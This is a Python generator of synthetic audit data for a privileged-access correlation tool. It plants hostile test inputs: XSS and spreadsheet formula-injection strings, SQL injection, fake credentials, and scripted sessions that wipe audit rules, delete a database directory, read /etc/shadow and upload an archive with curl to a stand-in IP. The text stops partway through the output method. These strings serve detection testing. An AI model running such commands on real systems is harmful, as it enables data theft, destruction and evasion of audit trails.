#!/usr/bin/env python3
"""Seeded generator for pamcorr's sample data: one small company, ISO week 2026-W47.

    python sample_data/generate.py [--seed 47] [--out DIR]

Standard library only; the same seed rewrites byte-identical approvals.csv, tickets.csv,
ticket_history.csv, activity.jsonl and expected_counts.json beside this script. Most activity
is sessions inside approved windows; on purpose there is also grace-period overrun, work after
expiry or revocation, denied and missing approvals, missing or invalid tickets, break-glass with
and without a follow-up ticket, nested windows, globs, MixedCase accounts, offset and epoch-ms
timestamps, hostile strings, fake secrets, malformed rows and duplicate lines. Ingest counts go
to expected_counts.json; per-row verdicts are deliberately not predicted.
"""
import argparse
import csv
import json
import os
import random
from collections import Counter
from datetime import datetime, timedelta, timezone
from fnmatch import fnmatchcase

OUT = os.path.dirname(os.path.abspath(__file__))
DAY0 = datetime(2026, 11, 15, tzinfo=timezone.utc)       # the day before the week
WEEK = DAY0 + timedelta(days=1)                          # Monday 2026-11-16T00:00Z
EXPORT = WEEK + timedelta(days=7, hours=6)               # when the tickets were exported
S, M, H, D = (timedelta(seconds=n) for n in (1, 60, 3600, 86400))
OFFSETS = [timedelta(hours=1), timedelta(hours=5, minutes=30)]

PEOPLE = [f"{f}.{l}" for f, l in zip(
    "alice bob carol dave erin frank grace heidi ivan judy kevin laura mallory niaj olivia peggy "
    "quentin rupert sybil trent uma victor wendy xavier yasmin zoe aaron bella chen diego elena "
    "farid gita hugo ines jonas kenji lena marco nadia".split(),
    "nguyen smith garcia okafor kim mueller rossi novak patel silva tanaka jones cohen dubois "
    "ivanova larsen moreau singh walsh haddad berg costa ito khan lopez mendes olsen park quinn "
    "reyes sato torres ueda vargas weber young zhang adams baker clark".split())]
# team: (head count, host groups it works on); the first member is the team lead
TEAMS = {"web": (9, ["web-prod", "api-prod", "web-stg"]), "dba": (6, ["db-prod", "db-stg"]),
         "platform": (8, ["k8s-node", "k8s-stg-node", "ci-runner"]),
         "sre": (9, ["cache-prod", "mq-prod", "mon", "log-prod", "bastion", "web-prod"]),
         "dev": (6, ["web-stg", "db-stg", "ci-runner"]), "sec": (2, ["vault", "bastion"])}
GROUPS = {"web-prod": (30, "web"), "api-prod": (16, "web"), "web-stg": (12, "web"), "db-prod": (10, "db"),
          "db-stg": (4, "db"), "k8s-node": (24, "k8s"), "k8s-stg-node": (8, "k8s"), "ci-runner": (10, "ops"),
          "cache-prod": (8, "ops"), "mq-prod": (6, "ops"), "mon": (4, "ops"), "log-prod": (6, "ops"),
          "bastion": (4, "ops"), "vault": (3, "ops")}
HOSTS = {g: [f"{g}-{i:02d}" for i in range(1, n + 1)] for g, (n, _) in GROUPS.items()}
CMDS = {  # "sudo X" becomes action sudo with detail X
    "web": "systemctl status nginx; sudo systemctl reload nginx; sudo nginx -t; uptime; ss -tlnp; "
           "df -h /var; tail -n 200 /var/log/nginx/error.log; journalctl -u app --since -1h; "
           "sudo systemctl restart app; curl -s localhost:8080/healthz; ps aux --sort=-%mem | head; "
           "ls -la /opt/app/releases; sudo vi /etc/nginx/conf.d/upstream.conf; sudo apt-get upgrade -y",
    "db": "systemctl status postgresql; sudo -u postgres psql -c 'select version()'; iostat -x 5 3; "
          "tail -n 100 /var/log/postgresql/postgresql-16-main.log; sudo systemctl reload postgresql; "
          "sudo vi /etc/postgresql/16/main/pg_hba.conf; du -sh /var/lib/postgresql/16/main",
    "k8s": "sudo crictl ps; sudo systemctl restart kubelet; journalctl -u kubelet -n 200; free -m; "
           "kubectl get pods -A -o wide; kubectl describe node $(hostname); sudo crictl rmi --prune",
    "ops": "uptime; df -h; sudo systemctl restart redis; tail -f /var/log/syslog; top -b -n 1; last -n 20; "
           "sudo journalctl -p err --since today; rabbitmqctl list_queues; sudo vault operator unseal; "
           "systemctl status prometheus; cat /etc/ssh/sshd_config; sudo apt-get upgrade -y"}
CMDS = {k: v.split("; ") for k, v in CMDS.items()}
DBQ = ("SELECT count(*) FROM orders WHERE created_at > now() - interval '1 hour'; VACUUM ANALYZE sessions; "
       "SELECT pid, state, query FROM pg_stat_activity WHERE state <> 'idle'; SELECT * FROM pg_locks; "
       "UPDATE feature_flags SET enabled = true WHERE name = 'new_checkout'").split("; ")
KEXEC = ["kubectl exec -n payments deploy/api -- env",
         "kubectl exec -n web pod/frontend-7c9f -- cat /etc/resolv.conf",
         "kubectl exec -n data kafka-0 -- kafka-topics.sh --list --bootstrap-server :9092"]
SECRETS = [  # fake credentials, for the redaction demo
    "mysql -u root -pS3cr3t! -e 'SHOW PROCESSLIST'",
    "curl -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJzdmMtZGVwbG95In0."
    "ZmFrZS1zaWduYXR1cmU' https://deploy.internal.example/api/v1/releases",
    "export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "PGPASSWORD='hunter2' psql -h db-prod-01 -U app -c 'select 1'",
    "redis-cli -a Sup3rS3cret! INFO replication",
    "curl -u admin:P@ssw0rd123 http://localhost:9200/_cluster/health"]
HOSTILE = ["echo '<script>alert(1)</script>'", "echo '<img src=x onerror=alert(1)>' >> index.html",
           "=cmd|' /C calc'!A0", "curl -s 'javascript:alert(1)'", "+SUM(1+1)*cmd|' /C calc'!A0",
           "psql -c \"SELECT 1\"; DROP TABLE approvals; --", "cat <<'EOF' > /tmp/motd\n<b>hi</b>, all\nEOF"]


HOSTILE_TARGETS = ["<img src=x onerror=alert(1)>", 'web-prod-01"><script>alert(1)</script>']
HOSTILE_ACTORS = ["javascript:alert(1)", "<script>alert(2)</script>"]
APPROVAL_COLS = "approval_id account target start end ticket requester approver kind status revoked_at"
TICKET_COLS = "ticket_id status opened closed planned_start planned_end assignee"


def iso(t, off=None):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ") if off is None else \
        t.astimezone(timezone(off)).isoformat()


def hosts_for(target):
    return [h for hs in HOSTS.values() for h in hs if fnmatchcase(h, target.lower())]


def command(r, host):
    kind = GROUPS[host.rsplit("-", 1)[0]][1]
    if kind == "db" and r.random() < 0.4:
        return "db.query", r.choice(DBQ)
    if kind == "k8s" and r.random() < 0.3:
        return "kubectl exec", r.choice(KEXEC)
    c = r.choice(CMDS[kind])
    return ("sudo", c[5:]) if c.startswith("sudo ") else ("ssh.command", c)


def deploy_cmds(ver):
    return [("sudo", "systemctl stop app"),
            ("ssh.command", f"tar -xzf /opt/releases/app-2026.11.{ver}.tgz -C /opt/app/current"),
            ("sudo", "systemctl start app"), ("ssh.command", "curl -fsS localhost:8080/healthz")]


# ---- approval hygiene examples (docs/hygiene.md) -----------------------------------------------
# Fixed rows appended after everything drawn from the seed, so the rest of the week keeps its
# bytes: one or more examples of each hygiene check the demo shows. Accounts that appear nowhere
# else (nina.kowalski, omar.petrov, pia.lund) keep the other verdicts as they were.
def _at(day, hh, mm=0):
    return WEEK + day * D + hh * H + mm * M


HYGIENE_TICKETS = [  # ticket_id, status, opened, closed, planned_start, planned_end, assignee
    ("CHG-7001", "approved", DAY0, None, None, None, "nina.kowalski"),
    ("CHG-7002", "closed", DAY0, _at(0, 18), None, None, "pia.lund"),     # closed on Monday
    ("CHG-7003", "approved", DAY0 - 20 * D, None, None, None, "omar.petrov"),
]
# approval_id, account, target, start, end, ticket, requester, approver, kind
HYGIENE_APPROVALS = [
    # self_approval: nina approved her own request
    ("PAM-20001", "nina.kowalski", "web-prod-03", _at(1, 9), _at(1, 11), "CHG-7001",
     "nina.kowalski", "nina.kowalski", "standard"),
    # approver_is_implementer: pia approved omar's request for root, then did the work herself
    ("PAM-20002", "root", "db-prod-04", _at(1, 14), _at(1, 15), "CHG-7001", "omar.petrov",
     "pia.lund", "standard"),
    # approver_not_authorized: quinn.temp is not in approvers.csv
    ("PAM-20003", "omar.petrov", "api-prod-02", _at(2, 10), _at(2, 11), "CHG-7001", "omar.petrov",
     "quinn.temp", "standard"),
    # approval_unused: nothing by nina on web-prod-05 while svc-monitor reported there
    ("PAM-20004", "nina.kowalski", "web-prod-05", _at(2, 13), _at(2, 15), "CHG-7001",
     "nina.kowalski", "alice.nguyen", "standard"),
    # window_oversized: 8 h granted, 10 min used
    ("PAM-20008", "pia.lund", "db-stg-02", _at(3, 8), _at(3, 16), "CHG-7001", "pia.lund",
     "judy.silva", "standard"),
    # ticket_reused: CHG-7002 closed on Monday, cited on Wednesday; CHG-7003 cited for 3 weeks
    ("PAM-20009", "pia.lund", "db-stg-03", _at(2, 9), _at(2, 10), "CHG-7002", "pia.lund",
     "judy.silva", "standard"),
    ("PAM-20010", "omar.petrov", "api-prod-03", DAY0 - 19 * D, DAY0 - 19 * D + H, "CHG-7003",
     "omar.petrov", "alice.nguyen", "standard"),
    ("PAM-20011", "omar.petrov", "api-prod-03", _at(2, 15), _at(2, 16), "CHG-7003", "omar.petrov",
     "alice.nguyen", "standard"),
] + [
    # standing_eligibility: omar's three unused approvals on cache-prod-02
    (f"PAM-2000{5 + i}", "omar.petrov", "cache-prod-02", _at(3 + i, 10), _at(3 + i, 11),
     "CHG-7001", "omar.petrov", "marco.baker", "standard") for i in range(3)
] + [
    # renewal_chain: four 4 h approvals back to back for nina on bastion-02 (16 h in a row)
    (f"PAM-2002{i}", "nina.kowalski", "bastion-02", _at(4, 4 * i), _at(4, 4 * i + 4), "CHG-7001",
     "nina.kowalski", "marco.baker", "standard") for i in range(4)
]
# ts, account, target, action, detail, actor
HYGIENE_EVENTS = [
    (_at(1, 9, 10), "nina.kowalski", "web-prod-03", "sudo", "systemctl reload nginx", None),
    (_at(1, 14, 5), "root", "db-prod-04", "sudo", "systemctl restart postgresql", "pia.lund"),
    (_at(1, 14, 20), "root", "db-prod-04", "db.query", "VACUUM ANALYZE orders", "pia.lund"),
    (_at(2, 10, 15), "omar.petrov", "api-prod-02", "sudo", "systemctl restart api", None),
    (_at(2, 14), "svc-monitor", "web-prod-05", "ssh.command", "check_load -w 8,6,4 -c 12,10,8",
     "nagios"),
    (_at(3, 9), "pia.lund", "db-stg-02", "sudo", "systemctl restart postgresql", None),
    (_at(3, 9, 10), "pia.lund", "db-stg-02", "db.query", "ANALYZE sessions", None),
    (_at(2, 9, 30), "pia.lund", "db-stg-03", "db.query", "ANALYZE sessions", None),
    (DAY0 - 19 * D + 10 * M, "omar.petrov", "api-prod-03", "sudo", "systemctl restart api", None),
    (_at(2, 15, 10), "omar.petrov", "api-prod-03", "sudo", "systemctl restart api", None),
] + [
    (_at(3 + i, 10, 30), "svc-monitor", "cache-prod-02", "ssh.command", "check_disk -w 20% -c 10%",
     "nagios") for i in range(3)
] + [
    (_at(4, 4 * i + 1), "nina.kowalski", "bastion-02", "ssh.command", "tail -n 200 /var/log/auth.log",
     None) for i in range(4)
] + [
    # approval_bypass: a policy attached by a person outside any approval (CloudTrail's shape),
    # and a role assigned outside of PIM (Entra's audit event, as the pim connector maps it)
    (_at(5, 2, 10), "omar.petrov", "aws-123456789012", "iam.amazonaws.com:AttachRolePolicy",
     '{"roleName":"ci-deployer","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}',
     "omar.petrov"),
    (_at(5, 2, 30), "mallory.cohen", "62e90394-69f5-4237-9190-012177145e10/",
     "pim.add_member_outside_pim", "Add member to role outside of PIM (permanent): Global "
     "Administrator", "omar.petrov"),
]


def hygiene_rows(approvers):
    """The example rows as written: approvals, tickets, activity lines, approvers.csv rows
    (`approvers`: every approver of the seeded week, allowed everywhere)."""
    appr = [[a[0], a[1], a[2], iso(a[3]), iso(a[4]), a[5], a[6], a[7], a[8], "approved", ""]
            for a in HYGIENE_APPROVALS]
    tick = [[t[0], t[1]] + [iso(x) if x else "" for x in t[2:6]] + [t[6]] for t in HYGIENE_TICKETS]
    lines = []
    for i, (ts, account, target, action, detail, actor) in enumerate(HYGIENE_EVENTS, 1):
        d = {"event_id": f"ev-h{i:03d}", "ts": iso(ts), "account": account, "target": target,
             "action": action, "detail": detail}
        if actor:
            d["actor"] = actor
        lines.append(json.dumps(d, separators=(",", ":")))
    who = sorted(set(approvers) | {"alice.nguyen", "judy.silva", "marco.baker", "pia.lund"})
    return appr, tick, lines, [[a, "*", ""] for a in who]


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)
        self.approvals, self.tickets, self.events, self.team, i = [], [], [], {}, 0
        for name, (n, groups) in TEAMS.items():
            self.team.update((p, (name, groups, PEOPLE[i])) for p in PEOPLE[i:i + n])
            i += n

    # ---- tickets and approvals ------------------------------------------------------------
    def ticket(self, ws, we, mode="ok", opened=None):
        """A change ticket for work planned in [ws, we]; `mode` picks a valid or broken shape."""
        r = self.r
        opened = opened or max(DAY0 + r.randint(420, 720) * M, ws - r.randint(90, 1800) * M)
        t = dict(opened=opened, ps=ws - r.choice([0, 15, 30]) * M, pe=we + r.choice([30, 60, 120]) * M,
                 assignee=r.choice(PEOPLE), hist=None, status=r.choice(["closed", "closed", "resolved"]),
                 closed=we + r.randint(60, 600) * M)
        frac = lambda f: (ws + (we - ws) * f).replace(microsecond=0)
        if mode == "incident" or mode == "ok" and r.random() < 0.2:
            t["ps"] = t["pe"] = None
        if mode.startswith("hist") or mode == "ok" and r.random() < 0.45:   # with transitions
            ok = opened + (ws - 20 * M - opened) * r.uniform(0.1, 0.9)
            ok = frac(0.5) if mode == "hist_late_approval" else ok
            done = frac(0.5) if mode == "hist_resolved_mid" else (t["pe"] or we) + r.randint(10, 240) * M
            steps = [(opened, "requested"), (ok, "approved"),
                     (max(ok + M, ws - r.randint(2, 15) * M), "in_progress"), (done, "resolved"),
                     (done + r.randint(2, 30) * H, "closed")]
            t["hist"] = [(ts.replace(microsecond=0), s) for ts, s in steps if ts <= EXPORT]
            t.update(status=t["hist"][-1][1], closed=t["hist"][-1][0])
        else:
            t.update({"cancelled": dict(status="cancelled", closed=min(ws - 30 * M, opened + H)),
                      "rejected": dict(status="rejected", closed=min(ws - 30 * M, opened + H)),
                      "requested": dict(status="requested"), "closed_early": dict(closed=frac(0.4)),
                      "planned_elsewhere": dict(ps=ws + D, pe=we + D + H),
                      "opened_late": dict(opened=frac(0.3)),
                      "incident": dict(closed=opened + r.randint(2, 20) * H)}.get(mode, {}))
            if t["closed"] > EXPORT and t["status"] in ("closed", "resolved"):
                t["status"] = r.choice(["in_progress", "approved"])
        if t["status"] not in ("closed", "resolved", "cancelled", "rejected"):
            t["closed"] = None
        self.tickets.append(t)
        return t

    def approve(self, account, target, ws, we, ticket=None, kind="standard", status="approved",
                revoked=None, requester=None):
        requester = requester or account.lower()
        lead = self.team[requester][2]      # leads are approved by the SRE lead, or by security
        lead = lead if lead != requester else PEOPLE[23] if requester != PEOPLE[23] else PEOPLE[38]
        self.approvals.append(dict(account=account, target=target, start=ws, end=we, ticket=ticket,
                                   requester=requester, approver="" if kind == "break_glass" else lead,
                                   kind=kind, status=status, revoked=revoked))

    def fresh(self, person, groups):
        """A host of `groups` that no approval of `person` (any status) matches, or None."""
        mine = [a["target"].lower() for a in self.approvals if a["account"].lower() == person]
        pool = [h for g in groups for h in HOSTS[g] if not any(fnmatchcase(h, t) for t in mine)]
        return self.r.choice(pool) if pool else None

    def window(self, day=None, hours=None, night=False):
        r = self.r
        day = r.choice([0, 0, 1, 1, 2, 2, 3, 3, 4, 4, 5, 6]) if day is None else day
        ws = WEEK + day * D + r.randint(0 if night else 7, 22 if night else 16) * H \
            + r.choice([0, 15, 30, 45]) * M
        return ws, ws + (hours or r.choice([1, 2, 2, 3, 4, 4, 6])) * H

    # ---- activity -------------------------------------------------------------------------
    def ev(self, t, account, target, action, detail, sid=None, actor=None, keep=False):
        self.events.append(dict(t=t, account=account, target=target, action=action,
                                detail=detail, session_id=sid, actor=actor, keep=keep))

    def session(self, acct, host, t0, t1, n=0, cmds=None, actor=None):
        """Start row at t0, n random commands (or `cmds`) spread over [t0, t1], end row at t1."""
        r, sid = self.r, "s-%08x" % self.r.getrandbits(32)
        self.ev(t0, acct, host, "session.start", f"ssh from 10.{r.randint(1, 40)}."
                f"{r.randint(0, 255)}.{r.randint(2, 254)}", sid, actor)
        cmds = cmds or [command(r, host) for _ in range(n)]
        span = max(2, int((t1 - t0).total_seconds()) - 1)
        for s, c in zip(sorted(r.randint(1, span) for _ in cmds), cmds):
            self.ev(t0 + s * S, acct, host, c[0], c[1], sid, actor, keep=len(c) > 2 and c[2])
        self.ev(t1, acct, host, "session.end", None, sid, actor)

    def work(self, acct, hosts, ws, we, tail=None, busy=(2, 6)):
        """Sessions inside [ws, we]. tail: 'grace' ends a session a few minutes late, 'late' comes
        back after the window, 'early' starts half an hour before it."""
        r = self.r
        for _ in range(r.randint(*busy)):
            t0, n = ws + int(r.uniform(0, (we - ws).total_seconds() * 0.9)) * S, r.randint(6, 30)
            self.session(acct, r.choice(hosts), t0, min(we, t0 + n * r.randint(20, 80) * S), n)
        if tail == "grace":
            self.session(acct, r.choice(hosts), we - r.randint(3, 10) * M, we + r.randint(150, 295) * S,
                         r.randint(6, 14))
        if tail in ("late", "early"):
            t0 = we + r.randint(10, 120) * M if tail == "late" else ws - r.randint(20, 45) * M
            self.session(acct, r.choice(hosts), t0, t0 + r.randint(25, 60) * M, r.randint(8, 25))

    def rolling(self, acct, hosts, t0, secs, actor, cmds):
        """The same commands on one host after another, about `secs` seconds each."""
        for h in hosts:
            t1 = t0 + self.r.randint(secs - 20, secs + 20) * S
            self.session(acct, h, t0, t1, actor=actor, cmds=cmds)
            t0 = t1 + 5 * S

    # ---- scenarios --------------------------------------------------------------------------
    def humans(self):
        """Everyday approved work: 3-5 approvals per person, mostly exact hosts, some globs."""
        r = self.r
        for p in PEOPLE:
            for _ in range(r.randint(3, 5)):
                g = r.choice(self.team[p][1])
                host, x = r.choice(HOSTS[g]), r.random()
                target = (r.choice([f"{g}-*", host[:-1] + "?", f"{g}-1*"]) if x < 0.12
                          else host.upper() if x < 0.18 else host)
                target = target if hosts_for(target) else f"{g}-*"
                account = p.title() if r.random() < 0.08 else p      # Alice.Nguyen
                ws, we = self.window()
                self.approve(account, target, ws, we, self.ticket(ws, we))
                if r.random() < 0.1:                # overlapping extension with its own ticket
                    ws2, we = we - 30 * M, we + r.choice([1, 2]) * H
                    self.approve(account, target, ws2, we, self.ticket(ws2, we))
                hosts = hosts_for(target)
                self.work(p, r.sample(hosts, min(len(hosts), r.randint(1, 4))), ws, we,
                          r.choices([None, "grace", "late", "early"], [45, 45, 5, 5])[0], (3, 8))

    def services(self):
        """Service accounts: standing week-long windows, nightly jobs, deploy windows."""
        r, hours = self.r, [WEEK + h * H for h in range(168)]
        for acct, targets, req in (
                ("svc-monitor", "web-prod-* api-prod-* db-prod-*", 23), ("svc-logship", "log-prod-*", 23),
                ("svc-argo", "k8s-node-*", 15), ("svc-ci", "ci-runner-*", 15), ("svc-etl", "db-prod-0?", 9)):
            tk = self.ticket(DAY0 + 20 * H, EXPORT - 4 * H)     # standing access, one ticket
            for t in targets.split():
                self.approve(acct, t, DAY0 + 20 * H, EXPORT - 2 * H, tk, requester=PEOPLE[req])
        for hr in hours[::2]:
            for i, h in enumerate(HOSTS["web-prod"] + HOSTS["api-prod"] + HOSTS["db-prod"]):
                self.ev(hr + (i * 3 + r.randint(0, 2)) * S, "svc-monitor", h, "ssh.command",
                        ["check_load -w 8,6,4 -c 12,10,8", "check_disk -w 20% -c 10%"][i % 2], actor="nagios")
            for h in HOSTS["log-prod"]:
                self.ev(hr + r.randint(0, 3599) * S, "svc-logship", h, "sudo",
                        "logrotate -f /etc/logrotate.d/app", actor="cron")
        for j in range(1150):       # kubectl exec by Argo CD, CI jobs on the runners
            t0, k = WEEK + r.randint(0, 604000) * S, j % 5 < 2
            cmds = [("kubectl exec", r.choice(KEXEC))] * r.randint(1, 3) if k else [
                ("ssh.command", c.format(j)) for c in ("git clone -q git@git:shop/app /b/{0}",
                                                       "docker build -q -t reg/app:{0} /b/{0}",
                                                       "docker push -q reg/app:{0}")]
            self.session(*(("svc-argo", r.choice(HOSTS["k8s-node"])) if k else
                           ("svc-ci", r.choice(HOSTS["ci-runner"]))), t0, t0 + r.randint(5, 600) * S,
                         cmds=cmds, actor="argocd" if k else "gitlab-runner")
        tk = self.ticket(DAY0 + 22 * H, WEEK + 7 * D + 4 * H)  # one standard change for backups
        for day in range(7):
            night, stamp = WEEK + day * D, f"{WEEK + day * D:%Y%m%d}"
            # backups 01:00-03:00 (Tue starts 3 min early, Thu overruns); one approval MixedCase
            self.approve("SVC-Backup" if day == 4 else "svc-backup", "db-prod-*", night + H,
                         night + 3 * H, tk, requester=PEOPLE[9])
            self.rolling("svc-backup", HOSTS["db-prod"], night + H - (3 * M if day == 1 else 0 * M),
                         890 if day == 3 else 590, "cron", [
                             ("sudo", f"pg_basebackup -D /backup/{stamp} -Ft -z -X stream"),
                             ("ssh.command", f"sha256sum /backup/{stamp}/base.tar.gz"),
                             ("ssh.command", f"aws s3 cp /backup/{stamp}/ s3://backups/$(hostname)/")])
            ws = night + 2 * H      # config runs on the nodes, one ticket per night
            self.approve("svc-ansible", "k8s-node-*", ws, ws + 2 * H, self.ticket(ws, ws + 2 * H),
                         requester=PEOPLE[15])
            self.rolling("svc-ansible", HOSTS["k8s-node"], ws + 5 * M, 100, "awx", [
                ("sudo", "apt-get update -q"), ("sudo", "apt-get install -y -q containerd.io"),
                ("ssh.command", "cat /etc/containerd/config.toml"), ("sudo", "systemctl restart containerd")])
            # ETL's standing glob db-prod-0? misses db-prod-10, which it queries anyway
            self.rolling("svc-etl", HOSTS["db-prod"], night + 30 * M, 200, "airflow",
                         [("db.query", q) for q in DBQ[:3]])
            for hh in ([10, 14, 16] if day < 4 else [11] if day == 4 else []):
                g, ws = "web-prod" if (day + hh) % 2 else "api-prod", night + hh * H
                we = ws + (45 if (day, hh) in ((1, 14), (3, 10)) else 85) * M   # two too short
                self.approve("svc-deploy", f"{g}-*", ws, we, self.ticket(ws, we), requester=PEOPLE[0])
                self.rolling("svc-deploy", HOSTS[g], ws + 2 * M, 150, "jenkins", deploy_cmds(f"{day}.{hh}"))
        self.rolling("svc-deploy", HOSTS["web-prod"][:6], WEEK + 4 * D + 19 * H, 150, "jenkins",
                     deploy_cmds("hotfix"))  # Friday evening, no approval
        for hr in hours:            # an orphaned cron job nobody ever approved
            self.session("svc-legacy", "mq-prod-03", hr + 7 * M, hr + 9 * M, actor="cron",
                         cmds=[("ssh.command", "/opt/legacy/bin/queue-drain.sh --batch 500")])

    def trouble(self):
        """Each on a (person, host) pair no other approval covers, so the trouble shows cleanly."""
        r, ops = self.r, [p for p in PEOPLE if self.team[p][0] in ("web", "dba", "platform", "sre")]

        def pick(groups=None):
            while True:
                p = r.choice(ops)
                h = self.fresh(p, groups or self.team[p][1])
                if h:
                    return (p, h) + self.window()

        unknown = lambda: "CHG-9%03d" % r.randint(0, 999)   # never issued
        for how in ["retro"] * 8 + ["prior"] * 2 + ["none"] * 3 + ["late"] * 2 + ["unknown"]:
            p, h = pick()[:2]       # break-glass, at odd hours, with or without a ticket
            ws = self.window(day=r.randint(0, 3), night=True)[0]
            we = ws + r.randint(30, 120) * M
            opened = {"retro": we + r.randint(30, 600) * M, "prior": ws - 2 * H,
                      "late": we + r.randint(30, 60) * H}.get(how)
            tk = self.ticket(ws, we, "incident", opened) if opened else None
            self.approve(p, h, ws, we, unknown() if how == "unknown" else tk, kind="break_glass")
            self.work(p, [h], ws, we, busy=(3, 6))
        for _ in range(10):         # standard approval without a ticket
            p, h, ws, we = pick()
            self.approve(p, h, ws, we)
            self.work(p, [h], ws, we)
        nest = [a for a in self.approvals if a["account"] in PEOPLE and a["kind"] == "standard"
                and a["target"] in HOSTS.get(a["target"].rsplit("-", 1)[0], [])]
        for a in r.sample(nest, 4):  # a long no-ticket window around a ticketed one
            p, h, ws, we = a["account"], a["target"], a["start"] - 3 * H, a["end"] + 3 * H
            self.approve(p, h, ws, we)
            self.work(p, [h], ws, a["start"] - 10 * M, busy=(1, 2))
            self.work(p, [h], a["end"] + 10 * M, we, busy=(1, 2))
        for m in ("cancelled rejected requested closed_early planned_elsewhere opened_late "
                  "hist_resolved_mid hist_late_approval unknown").split() * 2:
            p, h, ws, we = pick()   # tickets that do not cover the work
            self.approve(p, h, ws, we, unknown() if m == "unknown" else self.ticket(ws, we, m))
            self.work(p, [h], ws, we)
        for i in range(15):         # revoked mid-window (12), or after it had ended (3)
            p, h, ws, we = pick()
            rv = we + r.randint(1, 10) * H if i >= 12 else ws + r.randint(30, 70) * (we - ws) / 100
            self.approve(p, h, ws, we, self.ticket(ws, we), status="revoked", revoked=rv)
            self.work(p, [h], ws, min(rv, we), tail="grace" if i % 2 else None)
            if rv < we:             # ... and carried on regardless
                t0 = rv + r.randint(6, 30) * M
                self.session(p, h, t0, t0 + r.randint(10, 40) * M, r.randint(10, 30))
        for i in range(15):         # denied (some as a glob); five went ahead anyway
            p, h, ws, we = pick()
            tk = None if i % 3 == 0 else self.ticket(ws, we, ["rejected", "requested"][i % 3 - 1])
            self.approve(p, h if i % 5 else h.rsplit("-", 1)[0] + "-*", ws, we, tk, status="denied")
            if i < 5:
                self.work(p, [h], ws, we, busy=(1, 3))
        for _ in range(3):          # approved the day before; back on Monday, and on Sunday
            p, h = pick()[:2]
            ws = DAY0 + r.randint(8, 12) * H
            self.approve(p, h, ws, ws + 2 * H, self.ticket(ws, ws + 2 * H, opened=ws - 2 * H))
            for t0 in (WEEK + r.randint(6, 9) * H, WEEK + 6 * D + r.randint(18, 22) * H):
                self.session(p, h, t0, t0 + 20 * M, r.randint(10, 20))
        for _ in range(2):          # malformed: end before start (quarantined)
            p, h, ws, we = pick()
            self.approve(p, h, we, ws, self.ticket(ws, we))
        for _ in range(6):          # poking around where nobody approved anything
            p, h, t0, _ = pick(["vault", "db-prod", "bastion"])
            self.session(p, h, t0, t0 + r.randint(10, 40) * M, r.randint(10, 30))
        for i, target in enumerate(HOSTILE_TARGETS):
            self.ev(WEEK + 2 * D + (13 * 60 + i * 7) * M, ops[i], target, "ssh.command", "id")

    def risky(self):
        """What was done, not only when (docs/detections.md): risky commands and three sequences,
        inside approvals (needs review) and outside them (FAIL). Marked `keep` so the secret and
        hostile substitutions in write() never overwrite them."""
        r, ops = self.r, [p for p in PEOPLE if self.team[p][0] in ("platform", "sre")]
        keep = lambda cmds: [(a, d, True) for a, d in cmds]
        # 1. an approved admin escalates to root, then blinds auditd: approved, yet needs review
        p, h = ops[0], self.fresh(ops[0], ["bastion"] if "bastion" in HOSTS else self.team[ops[0]][1])
        ws = WEEK + 1 * D + 14 * H
        self.approve(p, h, ws, ws + 2 * H, self.ticket(ws, ws + 2 * H))
        self.session(p, h, ws + 10 * M, ws + 40 * M, cmds=keep([
            ("ssh.command", "uptime"), ("ssh.command", "sudo -i"), ("sudo", "auditctl -D"),
            ("sudo", "systemctl stop auditd"), ("ssh.command", "history -c")]))
        # 2. nobody approved this: the same destructive command on three database hosts
        t0 = WEEK + 3 * D + 2 * H + 10 * M
        for i, host in enumerate(HOSTS["db-prod"][:3]):
            self.session("svc-deploy", host, t0 + i * 2 * M, t0 + i * 2 * M + 90 * S, actor="jenkins",
                         cmds=keep([("sudo", "systemctl stop mysql"), ("sudo", "rm -rf /var/lib/mysql")]))
        # 3. a secret read, then the data leaves the host, on a host nobody approved
        p = ops[1]
        h = self.fresh(p, self.team[p][1])
        t0 = WEEK + 4 * D + 22 * H + 5 * M
        self.session(p, h, t0, t0 + 12 * M, cmds=keep([
            ("sudo", "cat /etc/shadow"), ("ssh.command", "tar czf /tmp/x.tgz /etc/app"),
            ("ssh.command", "curl -T /tmp/x.tgz https://203.0.113.7/upload")]))
        # 4. many failed logins, then one that works, then the database is dropped
        p = ops[2]
        h = self.fresh(p, ["db-prod"])
        t0 = WEEK + 5 * D + 3 * H
        for i in range(6):
            self.ev(t0 + i * 40 * S, p, h, "ssh.login_failed", "password from 198.51.100.23", keep=True)
        self.session(p, h, t0 + 5 * M, t0 + 12 * M, cmds=keep([("db.query", "DROP DATABASE billing;")]))
        # 5. planned and ticketed, still worth a look: a table truncated inside its window
        p = ops[3]
        h = self.fresh(p, ["db-prod"])
        ws = WEEK + 2 * D + 10 * H
        self.approve(p, h, ws, ws + 3 * H, self.ticket(ws, ws + 3 * H))
        self.session(p, h, ws + 15 * M, ws + 50 * M, cmds=keep([
            ("db.query", "SELECT count(*) FROM audit_log"), ("db.query", "TRUNCATE TABLE audit_log")]))

    def noise_tickets(self, total=400):
        """Tickets no approval references: planned for next week, rejected, cancelled, done."""
        r = self.r
        while len(self.tickets) < total:
            ws, we = self.window(day=r.choice([0, 1, 2, 3, 4, 7, 8, 9]))   # 7+: next week
            self.ticket(ws, we, r.choice(["ok", "ok", "ok", "requested", "rejected", "cancelled"]),
                        DAY0 + r.randint(8, 180) * H if ws > EXPORT else None)
        self.tickets[-1]["assignee"] = "=cmd|' /C calc'!A0"

    # ---- output -----------------------------------------------------------------------------
    def write(self, out, seed):
        r, n = self.r, 4100
        for t in sorted(self.tickets, key=lambda t: t["opened"]):   # ids in order of opening
            n += r.randint(1, 3)
            t["id"] = f"CHG-{n}"
        self.tickets.sort(key=lambda t: t["id"])
        self.approvals.sort(key=lambda a: (a["start"], a["account"].lower(), a["target"]))
        offs = [set(r.sample(range(len(self.approvals)), 10)), set(r.sample(range(len(self.tickets)), 8))]
        fmt = lambda t, i, which: iso(t, OFFSETS[i % 2] if i in offs[which] else None) if t else ""
        appr = [[f"PAM-{10001 + i}", a["account"], a["target"], fmt(a["start"], i, 0), fmt(a["end"], i, 0),
                 a["ticket"]["id"] if isinstance(a["ticket"], dict) else a["ticket"] or "",
                 a["requester"], a["approver"], a["kind"], a["status"], fmt(a["revoked"], i, 0)]
                for i, a in enumerate(self.approvals)]
